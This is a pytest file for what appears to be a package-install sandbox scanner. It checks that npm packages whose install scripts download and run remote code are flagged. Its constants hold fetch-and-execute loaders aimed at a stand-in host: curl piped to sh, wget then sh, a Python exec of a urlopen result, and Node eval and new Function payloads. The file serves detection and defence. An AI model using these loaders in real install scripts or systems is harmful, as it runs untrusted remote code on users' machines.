# SPDX-License-Identifier: Apache-2.0
"""Packages that fetch code and run it: the played script shows that it was run, by whatever it was run."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import Any

import pytest

from local_packages import Npm, npm_project

pytestmark = pytest.mark.docker

GET = (
    "require('https').get('https://s.stage.example/%s', r => {"
    "let t = ''; r.on('data', d => t += d).on('end', () => {%s}) })"
)
PYTHON = "import urllib.request as u; exec(u.urlopen('https://s.stage.example/p.py').read())"
LOADERS = {
    "by-pipe": ("curl -fsS https://s.stage.example/i | sh", "by-sh/s.stage.example/i"),
    "by-file": ("wget -q -O /tmp/x http://s.stage.example/f.sh && sh /tmp/x", "by-sh/s.stage.example/f.sh"),
    "by-eval": ("node eval.js", "by-node/s.stage.example/e"),
    "by-function": ("node function.js", "by-node/s.stage.example/n.js"),
    "by-python": (f'python3 -c "{PYTHON}"', "by-python/s.stage.example/p.py"),
}
SCRIPTS = {
    "by-eval": ("eval.js", GET % ("e", "eval(t)")),
    "by-function": ("function.js", GET % ("n.js", "new Function('require', t)(require)")),
    "kept": ("kept.js", GET % ("k", "require('fs').writeFileSync('k', t)")),
}


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Install all of them in one run, and return its report."""
    commands = {name: command for name, (command, _) in LOADERS.items()} | {"kept": "node kept.js"}
    packages = {
        name: Npm(command, dict([SCRIPTS[name]] if name in SCRIPTS else ()))
        for name, command in commands.items()
    }
    project = npm_project(tmp_path_factory.mktemp("stages"), packages)
    at = tmp_path_factory.mktemp("report") / "r.json"
    program = (sys.executable, "-c", "from fpbox.cli import main; main()", "run", "-o", f"json={at}")
    env = os.environ | {"XDG_STATE_HOME": str(at.parent)}
    done = subprocess.run(
        (*program, "npm", "install", "--install-links"),
        cwd=project, env=env, capture_output=True, check=False,
    )  # fmt: skip
    assert done.returncode == 3, done.stderr.decode()
    found: dict[str, Any] = json.loads(at.read_bytes())
    return found


def findings(report: dict[str, Any], name: str) -> dict[str, Any]:
    (package,) = (one for one in report["packages"] if one["purl"] == f"pkg:npm/{name}@1.0.0")
    return {one["recipe"]: one for one in package["findings"] if not one["explained"]}


@pytest.mark.parametrize("name", LOADERS)
def test_code_that_was_fetched_and_run_says_by_what_and_from_where(report: dict[str, Any], name: str) -> None:
    seen = findings(report, name)["fetched_code_run"]["evidence"]
    assert [one["object"] for one in seen] == [f"/ran/{LOADERS[name][1]}"]


def test_code_that_was_fetched_and_kept_was_not_run(report: dict[str, Any]) -> None:
    assert "egress_attempt" in findings(report, "kept")
    assert "fetched_code_run" not in findings(report, "kept")
